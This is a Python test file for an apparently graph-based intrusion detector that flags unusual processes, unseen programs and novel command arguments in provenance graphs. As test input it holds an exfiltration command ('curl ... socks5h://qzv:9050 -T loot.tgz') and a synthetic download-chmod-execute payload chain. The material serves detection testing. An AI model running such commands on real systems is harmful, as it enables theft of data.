import numpy as np
import pytest
from _synth import run_graph

from riskscope.exceptions import InputError, NotFittedError, ParameterError, SchemaError
from riskscope.graph.detector import MAX_THRESHOLD, NodeTypeDetector
from riskscope.graph.model import NEW_PROGRAM, AptDetector, expand_alerts
from riskscope.graph.store import EmbeddingStore
from riskscope.graph.subgraph import alert_subgraph


def _blobs(seed=0):
    rng = np.random.default_rng(seed)
    F = np.r_[rng.normal(0, 1, (80, 4)), rng.normal(5, 1, (80, 4))].astype(np.float32)
    t = np.array(["process"] * 80 + ["file"] * 80, dtype=object)
    return F, t


def test_thresholds_come_from_validation_only():
    F, t = _blobs()
    det = NodeTypeDetector(n_estimators=20, min_child_samples=5, node_fpr=0.05).fit([F], [t])
    with pytest.raises(NotFittedError, match="calibrate"):
        det.alerts(F, t)
    Fv, tv = _blobs(1)
    with pytest.warns(UserWarning, match=r"fewer than 10 / node_fpr = 200"):
        det.calibrate([Fv[:80], Fv[80:]], [tv[:80], tv[80:]])
    _, conf = det.score(Fv, tv)
    assert det.node_threshold_ == max(0.5, np.quantile(conf, 0.95))
    assert det.calibration_["warnings"] and det.calibration_["known_nodes"] == 160
    assert det.calibration_["alerts_per_graph"] and det.graph_threshold_ == max(
        det.calibration_["alerts_per_graph"])
    # a process that looks like a file is an alert; an unseen type always is
    alert, pred, conf = det.alerts(np.array([[5, 5, 5, 5], [0, 0, 0, 0]], np.float32),
                                   np.array(["process", "socket"], dtype=object))
    assert alert.tolist() == [True, True] and conf[1] == 1.0 and pred[0] == "file"


def test_default_node_fpr_is_one_alert_per_validation_graph():
    F, t = _blobs()
    det = NodeTypeDetector(n_estimators=10, min_child_samples=5).fit([F], [t])
    graphs = [(F[i::4], t[i::4]) for i in range(4)]  # 4 graphs of 40 nodes
    with pytest.warns(UserWarning, match="validation nodes"):
        det.calibrate([g[0] for g in graphs], [g[1] for g in graphs])
    assert det.calibration_["node_fpr"] == pytest.approx(4 / 160)
    # 10 / node_fpr = 400 nodes are enough: no warning
    many = [(F[i::16], t[i::16]) for i in range(16)] * 25
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        det.calibrate([g[0] for g in many], [g[1] for g in many])
    assert det.calibration_["warnings"] == []


def test_node_threshold_stays_below_one_and_unseen_types_always_alert():
    F, t = _blobs()
    det = NodeTypeDetector(n_estimators=20, min_child_samples=5, node_fpr=0.01).fit([F], [t])
    # validation mostly of a type never seen in training (confidence 1.0): before the
    # fix the quantile was 1.0 and no node of a known type could alert any more
    unseen = np.array(["socket"] * 150 + ["process"] * 10, dtype=object)
    with pytest.warns(UserWarning):
        det.calibrate([F], [unseen])
    assert det.node_threshold_ < 1 and det.calibration_["known_nodes"] == 10
    assert det.graph_threshold_ >= 150   # the unseen nodes alerted in validation
    # a sure classifier, every validation node wrong: the quantile is above the cap
    sure = NodeTypeDetector(n_estimators=300, learning_rate=1.0, min_child_samples=5,
                            node_fpr=0.01).fit([F], [t])
    swapped = np.where(t == "process", "file", "process").astype(object)
    with pytest.warns(UserWarning):
        sure.calibrate([F], [swapped])
    assert sure.calibration_["confidence_quantile"] > MAX_THRESHOLD
    assert sure.node_threshold_ == MAX_THRESHOLD < 1
    alert, _, conf = sure.alerts(F, swapped)
    hi = conf > MAX_THRESHOLD   # before the cap, these could never alert
    assert hi.any() and alert[hi].all()
    alert, _, conf = sure.alerts(F[:1], np.array(["pipe"], dtype=object))
    assert alert[0] and conf[0] == 1.0
    assert sure.known(np.array(["file", "pipe"], dtype=object)).tolist() == [True, False]


def test_detector_save_load(tmp_path):
    F, t = _blobs()
    with pytest.warns(UserWarning):
        det = NodeTypeDetector(n_estimators=10, min_child_samples=5).fit([F], [t]).calibrate(
            [F], [t])
    det.save(tmp_path)
    back = NodeTypeDetector.load(tmp_path)
    assert np.array_equal(back.predict_proba(F), det.predict_proba(F))
    assert back.node_threshold_ == det.node_threshold_ and back.classes_ == det.classes_
    assert back.node_fpr is None and back.n_jobs == 1
    assert back.calibration_ == det.calibration_
    assert back.early_stop_margin_ == det.early_stop_margin_ and back.early_stop_margin == 5.0


def _three(seed=0, n=200, centre=3):
    rng = np.random.default_rng(seed)
    centres = np.array([[0, 0], [centre, 0], [0, centre]], np.float32)
    y = rng.integers(0, 3, n)
    F = (centres[y] + rng.normal(0, 0.8, (n, 2))).astype(np.float32)
    return F, np.array(["file", "process", "socket"], dtype=object)[y]


def test_prediction_early_stopping_is_checked_on_validation():
    F, t = _three(0)
    Fv, tv = _three(1)
    det = NodeTypeDetector(n_estimators=80, min_child_samples=5, node_fpr=0.05).fit([F], [t])
    assert det.early_stop_ is False   # not before calibrate has checked it
    det.calibrate([Fv], [tv])
    assert det.calibration_["early_stop_flips"] == {"5.0": 0} and det.early_stop_margin_ == 5
    # the shortcut is taken (partial scores differ) without changing a decision
    quick, full = det.predict_proba(Fv), det.predict_proba(Fv, margin=None)
    assert not np.allclose(quick, full)
    Ft, tt = _three(2)
    q_alert = det._alert(*det.score(Ft, tt), tt)
    f_alert = det._alert(*det.score(Ft, tt, margin=None), tt)
    assert np.array_equal(q_alert, f_alert)
    # overlapping types: the node threshold is near 1 and margin 5 changes decisions
    # there; the next margin tried (8) changes none and is kept
    Fo, to = _three(0, centre=2)
    Fov, tov = _three(1, centre=2)
    near = NodeTypeDetector(n_estimators=80, min_child_samples=5, node_fpr=0.05).fit(
        [Fo], [to]).calibrate([Fov], [tov])
    assert near.node_threshold_ > 0.999
    assert near.calibration_["early_stop_flips"]["5.0"] > 0
    assert near.calibration_["early_stop_flips"]["8.0"] == 0 and near.early_stop_margin_ == 8
    # a margin of 0 stops every node after the first check: decisions change at every
    # margin tried, so scoring falls back to every tree and says so
    rough = NodeTypeDetector(n_estimators=80, min_child_samples=5, node_fpr=0.05,
                             early_stop_margin=0.0).fit([F], [t])
    with pytest.warns(UserWarning, match="early stopping"):
        rough.calibrate([Fv], [tv])
    assert min(rough.calibration_["early_stop_flips"].values()) > 0 and not rough.early_stop_
    assert np.array_equal(rough.predict_proba(Fv), rough.predict_proba(Fv, margin=None))
    off = NodeTypeDetector(n_estimators=80, min_child_samples=5, node_fpr=0.05,
                           early_stop_margin=None).fit([F], [t]).calibrate([Fv], [tv])
    assert off.calibration_["early_stop_flips"] is None and not off.early_stop_


def test_detector_rejects_one_type():
    F, t = _blobs()
    with pytest.raises(ParameterError, match="two types"):
        NodeTypeDetector().fit([F[:80]], [t[:80]])


def test_store_round_trip_replace_and_similar(tmp_path):
    g = run_graph(0)[0]
    rng = np.random.default_rng(0)
    x = rng.normal(size=(g.n_nodes, 4)).astype(np.float32)
    h = rng.normal(size=(g.n_nodes, 2)).astype(np.float32)
    with EmbeddingStore(tmp_path / "e.duckdb") as st:
        st.put(g, x, h, split="train")
        st.put(g, x, h, split="train")  # replaces, does not duplicate
        assert st.count() == g.n_nodes == st.count(g.name)
    with EmbeddingStore(tmp_path / "e.duckdb", read_only=True) as st:
        ids, sx, sh = st.get(g.name)
        order = np.argsort(g.nodes["id"].to_pylist())
        assert np.array_equal(sx, x[order]) and np.array_equal(sh, h[order])
        top = st.similar(x[3], k=1)
        assert top["node_id"].iloc[0] == g.nodes["id"][3].as_py()
        assert top["similarity"].iloc[0] == pytest.approx(1.0, abs=1e-5)
        with pytest.raises(SchemaError, match="sizes"):
            st.put(g, x[:, :2], h)


def test_store_rejects_misaligned_vectors():
    g = run_graph(0)[0]
    with EmbeddingStore() as st, pytest.raises(SchemaError, match="one vector per node"):
        st.put(g, np.zeros((2, 4)), np.zeros((2, 2)))


@pytest.fixture(scope="module")
def fitted():
    train = [run_graph(s)[0] for s in range(12)]
    val = [run_graph(s)[0] for s in range(12, 16)]
    with pytest.warns(UserWarning, match="validation nodes"):  # 4 small validation graphs
        return AptDetector(w2v_epochs=3, gnn_epochs=30, n_estimators=20, seed=0).fit(
            train, val)


def test_apt_detector_flags_the_attack_graph_not_benign(fitted):
    benign = [fitted.score(run_graph(s)[0]) for s in range(100, 104)]
    attack = [fitted.score(run_graph(s, attack=True)[0]) for s in range(100, 104)]
    assert not any(r.anomalous for r in benign)
    assert all(r.anomalous for r in attack)
    frame = attack[0].alerts_frame()
    tier = frame["reason"].map({"unseen": 0, "type": 1, "provenance": 2})
    assert tier.is_monotonic_increasing
    for reason, part in frame.groupby("reason"):
        key = "novelty" if reason == "unseen" else "confidence"
        assert part[key].is_monotonic_decreasing
    new = frame[frame["reason"] == "unseen"]
    assert (new["confidence"] == 1).all() and new["novelty"].between(0, 1).all()
    assert (frame.loc[frame["reason"] != "unseen", "novelty"] == 0).all()
    typed = frame[frame["reason"] == "type"]
    assert (typed["class"] != typed["predicted"]).all()
    # the payload (a program no training graph ran) is in the first tier
    assert frame["class"].iloc[0] == NEW_PROGRAM
    assert any(name.startswith("/tmp/") for name in new["name"])


def test_unseen_program_is_its_own_class_and_alerts(fitted):
    g = run_graph(101)[0]
    names = g.nodes["name"].to_pylist()
    grep = names.index("/usr/bin/grep")
    names[grep] = "/opt/tools/zgrep-new"
    import pyarrow as pa

    renamed = g.with_node_column("name", pa.array(names))
    r = fitted.score(renamed)
    pos = r.graph.nodes["name"].to_pylist().index("/opt/tools/zgrep-new")
    assert r.classes[pos] == NEW_PROGRAM and r.unseen[pos] and r.alert[pos]
    assert r.alerts_frame()["name"].iloc[0] == "/opt/tools/zgrep-new"
    # every other process ran a program the training graphs ran
    assert r.unseen.sum() == 1
    plain = fitted.score(g)
    assert not plain.unseen.any() and NEW_PROGRAM not in set(plain.classes)


def test_expansion_adds_descendants_only_in_anomalous_graphs(fitted, monkeypatch):
    g, labels = run_graph(102, attack=True)
    r = fitted.score(g)
    assert r.anomalous and r.expanded.any()
    assert (r.graph.node_types()[r.expanded] == "process").all()
    assert not (r.expanded & (r.alert & ~r.expanded)).any()
    names = np.asarray(r.graph.nodes["name"].to_pylist(), dtype=object)
    assert "/usr/bin/curl" in set(names[r.expanded])  # the payload's downloader
    assert np.array_equal(r.alert, expand_alerts(r.graph, r.alert & ~r.expanded))
    monkeypatch.setattr(fitted.detector_, "graph_threshold_", 10**6)
    quiet = fitted.score(g)
    assert not quiet.anomalous and quiet.n_alerts > 0 and not quiet.expanded.any()
    assert np.array_equal(quiet.alert, r.alert & ~r.expanded)


def _tree():
    from riskscope.graph.schema import GraphBuilder

    b = GraphBuilder()
    sh, curl, chmod, pay, tar, gz, make, cc = (b.node(n, "process", n) for n in (
        "sh", "curl", "chmod", "payload", "tar", "gzip", "make", "cc"))
    f = b.node("/tmp/payload", "file", "/tmp/payload")
    lib = b.node("/lib/libc", "file", "/lib/libc")
    for child in (curl, chmod, pay, make):
        b.edge(sh, child, "start", 1)
    b.edge(curl, f, "write", 2)
    b.edge(chmod, f, "chmod", 3)
    b.edge(pay, f, "exec", 4)
    b.edge(pay, tar, "start", 5)
    b.edge(tar, gz, "start", 6)
    b.edge(make, cc, "start", 7)
    b.edge(cc, lib, "read", 8)
    g = b.build()
    return g, np.asarray(g.nodes["id"].to_pylist(), dtype=object)


def test_known_program_with_unseen_arguments_alerts_after_new_programs(fitted, tmp_path):
    # validation's commands are all seen in training: the threshold is the floor
    assert fitted.args_threshold_ == 0.5
    g = run_graph(100)[0]
    cmds = g.nodes["cmdline"].to_pylist()
    i = next(k for k, c in enumerate(cmds) if c and c.startswith("curl"))
    cmds[i] = "curl -k -x socks5h://qzv:9050 -T loot.tgz"
    odd = g.with_node_column("cmdline", cmds)
    target = g.nodes["id"][i].as_py()
    r = fitted.score(odd)
    ids = np.asarray(r.graph.nodes["id"].to_pylist(), dtype=object)
    j = int(np.flatnonzero(ids == target)[0])
    assert r.novel_args[j] and r.alert[j] and r.arguments[j] > 0.5
    assert r.novel_args.sum() == 1  # the other processes' arguments were all seen
    frame = r.alerts_frame()
    row = frame[frame["node_id"] == target].iloc[0]
    assert row["reason"] == "arguments"
    reasons = frame["reason"].tolist()
    assert reasons.index("arguments") == sum(x == "unseen" for x in reasons)
    assert not fitted.score(g).novel_args.any()
    # saved and loaded with its threshold; a model from before the rule scores without it
    fitted.save(tmp_path / "m")
    back = AptDetector.load(tmp_path / "m")
    assert back.novel_args and back.args_threshold_ == fitted.args_threshold_
    assert np.array_equal(back.score(odd).novel_args, r.novel_args)
    import json
    info = json.loads((tmp_path / "m/model.json").read_text())
    del info["args_threshold"], info["params"]["novel_args"]
    (tmp_path / "m/model.json").write_text(json.dumps(info))
    old = AptDetector.load(tmp_path / "m")
    assert not old.novel_args and not old.score(odd).novel_args.any()


def test_expand_alerts_follows_provenance():
    g, ids = _tree()

    def grown(*names):
        return set(ids[expand_alerts(g, np.isin(ids, names))])
    # down to tar and gzip, the payload's download and chmod, and sh (3 of 4 children)
    assert grown("payload") == {"payload", "tar", "gzip", "curl", "chmod", "sh"}
    assert grown("tar") == {"tar", "gzip", "payload"}      # payload's only child alerts
    assert grown("cc") == {"cc", "make"}
    assert grown("make") == {"make", "cc"}
    assert grown("/lib/libc") == {"/lib/libc"}             # objects do not grow
    # the root of the process tree (the session's shell) does not pull in everything
    assert grown("sh") == {"sh"}
    assert grown("sh", "payload") == {"sh", "payload", "tar", "gzip", "curl", "chmod"}


def test_apt_detector_save_load_same_scores(fitted, tmp_path):
    fitted.save(tmp_path / "m")
    back = AptDetector.load(tmp_path / "m")
    g = run_graph(200, attack=True)[0]
    a, b = fitted.score(g), back.score(g)
    assert np.array_equal(a.confidence, b.confidence) and a.anomalous == b.anomalous
    assert np.array_equal(a.alert, b.alert) and np.array_equal(a.unseen, b.unseen)
    assert back._params() == fitted._params() and back.known_programs_ == fitted.known_programs_
    # a model saved before the new-program rule loads with the rule off
    import json

    info = json.loads((tmp_path / "m" / "model.json").read_text())
    del info["known_programs"]
    (tmp_path / "m" / "model.json").write_text(json.dumps(info))
    old = AptDetector.load(tmp_path / "m")
    assert old.new_programs is False and NEW_PROGRAM not in set(old.score(g).classes)
    with pytest.raises(InputError, match="no apt model"):
        AptDetector.load(tmp_path)


def test_classifier_never_sees_test_graphs(fitted):
    # the model's training and validation graphs are named benign-0..15; nothing else
    names = {g.name for _, g, _, _ in fitted.fitted_}
    assert names == {f"benign-{s}" for s in range(16)}


def test_subgraph_export(fitted, tmp_path):
    r = fitted.score(run_graph(300, attack=True)[0])
    sub = alert_subgraph(r.graph, r.alert, r.confidence, predicted=r.predicted)
    assert sub.graph.nodes["alert"].to_pylist().count(True) == r.n_alerts
    import networkx as nx

    back = nx.read_graphml(sub.write_graphml(tmp_path / "s.graphml"))
    assert back.number_of_nodes() == sub.graph.n_nodes
    import json

    d = json.loads(sub.write_json(tmp_path / "s.json").read_text())
    assert len(d["edges"]) == sub.graph.n_edges
    fig = sub.plot()
    assert fig.axes[0].get_title(loc="left").startswith("Alerts and their neighbourhood")
